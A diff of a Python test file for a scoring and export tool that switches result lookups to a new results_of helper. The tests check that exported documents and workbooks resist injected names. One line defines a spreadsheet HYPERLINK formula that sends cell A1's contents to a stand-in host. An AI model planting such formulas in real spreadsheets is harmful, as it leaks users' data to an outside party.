@@ -27,6 +27,7 @@ from gelar_tui.paper.sheets import parse_sheet
 from gelar_tui.paper.slips import slips_html
 from gelar_tui.paper.workbook import forms_workbook
 from gelar_tui.paper.workbook_read import read_workbook
+from gelar_tui.scoring.day_results import results_of
 from tests.support.screens import CRITERIA, JURORS, demo_source
 
 HYPERLINK = '=HYPERLINK("http://example.invalid/?"&A1,"klik")'
@@ -51,7 +52,7 @@ def day(tmp_path: Path):
 
 def test_no_control_or_bidi_character_reaches_a_document(day):
     t = Messages("id")
-    results = day.results()
+    results = results_of(day)
     texts = {
         "text": export.to_text(day, results, t),
         "md": document.render(day, results, t, "md"),
@@ -68,7 +69,7 @@ def test_no_control_or_bidi_character_reaches_a_document(day):
 
 def test_workbooks_store_names_as_text_and_do_not_crash(day, tmp_path):
     t = Messages("id")
-    book = openpyxl.load_workbook(io.BytesIO(results_workbook(day, day.results(), t)))
+    book = openpyxl.load_workbook(io.BytesIO(results_workbook(day, results_of(day), t)))
     ranking = book.worksheets[0]
     names = [ranking.cell(row, 2) for row in range(5, 9)]
     assert sorted(c.value for c in names) == sorted(NAMES.values())
